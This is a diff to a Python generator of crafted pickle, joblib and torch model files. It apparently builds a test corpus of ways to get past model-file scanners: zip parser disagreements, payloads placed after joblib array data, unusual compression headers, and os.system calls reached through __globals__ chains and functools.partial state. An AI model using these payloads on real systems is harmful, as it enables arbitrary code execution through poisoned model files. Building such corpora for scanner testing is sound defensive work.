@@ -422,6 +422,16 @@ def gen_attacks(out):
     z[8:10] = struct.pack("<H", 8)
     c.add("a17_local_method_field_lies.pt", bytes(z), A, "local header claims deflate, central directory says stored (miniz trusts the central directory)", "zip parser disagreement", L)
 
+    z = build_zip(torch_zip(P2))
+    body, eocd = z[:-22], z[-22:]
+    n, cdsize, cdoff = struct.unpack("<HII", eocd[10:20])
+    z64 = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, n, n, cdsize, cdoff)
+    loc = struct.pack("<IIQI", 0x07064B50, 0, len(body), 1)
+    c.add("a18_zip64_end_records.pt", body + z64 + loc + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0), A,
+          "zip64 end-of-central-directory record and locator; the classic record holds only 0xFFFF / 0xFFFFFFFF", "zip64 handling", L)
+    c.add("a19_dot_data_version_only.pt", build_zip([dict(name="archive/data.pkl", data=P2), dict(name="archive/.data/version", data=b"3\n")]), A,
+          "version record at archive/.data/version only (torch accepts either)", "torch inline_container records", L)
+
     # ---------------- (b) joblib raw-array extent mismatches ----------------
     B = "b_joblib_extent"
     L = "joblib.load"
@@ -490,6 +500,24 @@ def gen_attacks(out):
               f"dtype string '{ts}' (itemsize {size} on x86-64 Linux, platform-dependent): payload right after joblib's {3 * size} bytes",
               "issue: joblib raw-array extent (dtype names)", "joblib.load", modules=["joblib", "numpy"], note="item size of this dtype is platform-dependent; verified on x86-64 Linux")
 
+    # wrapper states built in ways joblib accepts and a reader of literal dicts may not
+    Wrap = Raw(b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81")
+    f8 = Build(C(G("numpy", "dtype"), "f8", False, True), f8_state())
+
+    def sd(shape, dt):
+        return {"subclass": G("numpy", "ndarray"), "shape": shape, "order": "C", "dtype": dt, "allow_mmap": True, "numpy_array_alignment_bytes": 16}
+
+    i8scalar = C(G("numpy.core.multiarray", "scalar"), C(G("numpy", "dtype"), "i8", False, True), struct.pack("<q", 4))
+    for nm, w_ops, what in (
+        ("b17_shape_numpy_int64_scalars", Build(Wrap, sd((i8scalar,), f8)), "shape holds numpy.int64 scalars (numpy.core.multiarray.scalar), which joblib multiplies like ints"),
+        ("b18_state_from_dict_call", Build(Wrap, C(G("builtins", "dict"), [(k, v) for k, v in sd((4,), f8).items()])), "the wrapper's state is builtins.dict([...pairs...]), not a dict literal"),
+        ("b19_dtype_from_scalar_type", Build(Wrap, sd((4,), C(G("numpy", "dtype"), G("numpy", "float64")))), "dtype built as numpy.dtype(numpy.float64) (a type, no type string)"),
+        ("b20_state_slotstate_tuple", Build(Wrap, (None, sd((4,), f8))), "state given as (None, slotstate): BUILD sets the attributes with setattr"),
+    ):
+        head = b"\x80\x02](" + enc(w_ops, 2)
+        c.add(nm + ".joblib", head + pad_for(len(head)) + b"\x00" * 32 + payload_ops() + b"e.", B, what + "; payload after the 32 data bytes",
+              "issue: joblib raw-array extent (wrapper state forms)", "joblib.load", modules=["joblib", "numpy"])
+
     # ---------------- (c) compressed joblib ---------------------------------
     Cg = "c_joblib_compressed"
     w = enc(wrapper((4,), ("f8", False, True), f8_state()), 2)
@@ -524,6 +552,19 @@ def gen_attacks(out):
                          ("c11_xz_x86_bcj_filter", dict(filters=[{"id": lzma.FILTER_X86}, {"id": lzma.FILTER_LZMA2}]), "xz with the x86 BCJ filter"),
                          ("c12_xz_sha256_check", dict(check=lzma.CHECK_SHA256), "xz with a SHA-256 integrity check")):
         c.add(nm + ".joblib.xz", lzma.compress(raw_job, format=lzma.FORMAT_XZ, **kw), Cg, what + " (Python's lzma reads every xz filter and check)", "joblib compressors (xz options)", "joblib.load", modules=["joblib", "numpy"])
+    g = gzip.compress(raw_job, mtime=0)
+    ghdr = b"\x1f\x8b\x08" + bytes([0x04 | 0x08 | 0x10 | 0x02]) + b"\x00\x00\x00\x00\x00\x03" + struct.pack("<H", 4) + b"AB\x00\x00" + b"model.pkl\x00" + b"comment\x00"
+    ghdr += struct.pack("<H", zlib.crc32(ghdr) & 0xFFFF)
+    c.add("c13_gzip_header_fields.joblib.gz", ghdr + g[10:], Cg, "gzip header with FEXTRA, FNAME, FCOMMENT and FHCRC", "joblib compressors (gzip header)", "joblib.load", modules=["joblib", "numpy"])
+    try:
+        import lz4.frame as lf
+
+        c.add("c14_lz4_checksums_independent_blocks.joblib.lz4", lf.compress(raw_job, block_checksum=True, content_checksum=True, store_size=True, block_linked=False, block_size=lf.BLOCKSIZE_MAX4MB), Cg,
+              "lz4 frame with block and content checksums, stored size, independent 4 MB blocks", "joblib compressors (lz4 options)", "joblib.load", modules=["joblib", "numpy", "lz4"])
+    except ImportError:
+        old = os.path.join(out, "c14_lz4_checksums_independent_blocks.joblib.lz4")
+        if os.path.exists(old):
+            c.add("c14_lz4_checksums_independent_blocks.joblib.lz4", open(old, "rb").read(), Cg, "lz4 frame with block and content checksums, stored size, independent 4 MB blocks", "joblib compressors (lz4 options)", "joblib.load", modules=["joblib", "numpy", "lz4"])
     c.add("c08_zlib_plain_pickle.pkl.z", zlib.compress(plain, 9), Cg, "zlib stream of a plain pickle (no wrapper)", "joblib compressors", "joblib.load", modules=["joblib"])
     c.add("c09_gzip_plain_pickle.pkl.gz", gzip.compress(plain, 9, mtime=0), Cg, "gzip of a plain pickle", "joblib compressors", "joblib.load", modules=["joblib"])
 
@@ -757,6 +798,13 @@ def gen_attacks(out):
           "Python 2 name dumbdbm (mapped to dbm.dumb) creates files", "_compat_pickle IMPORT_MAPPING", L, modules=["dbm.dumb"])
     c.add("h21_py2_builtin_eval.pkl", pkl(C(G("__builtin__", "eval"), CODE), 1), H,
           "__builtin__.eval at protocol 1 (Python 2 name)", "_compat_pickle NAME_MAPPING", L)
+
+    g_os = C(getattr_(getattr_(G("pathlib", "Path.home"), "__globals__"), "get"), "os")
+    part = Build(C(G("functools", "partial"), G("builtins", "print"), "x"), (getattr_(g_os, "system"), (CMD,), {}, None))
+    c.add("h23_partial_build_swaps_func.pkl", pkl(C(part), 4), H,
+          "functools.partial(print) whose BUILD state swaps in os.system (from a __globals__ chain), then called", "functools.partial __setstate__", L, modules=["pathlib", "functools"])
+    c.add("h24_call_hidden_by_pop_mark.pkl", b"\x80\x04(" + enc(C(getattr_(g_os, "system"), CMD), 4) + b"1N.", H,
+          "the call sits between MARK and POP_MARK: its result is discarded, the call still happens", "pickle POP_MARK semantics", L, modules=["pathlib"])
 
     # ---------------- (i) nested loaders ------------------------------------
     I = "i_nested"
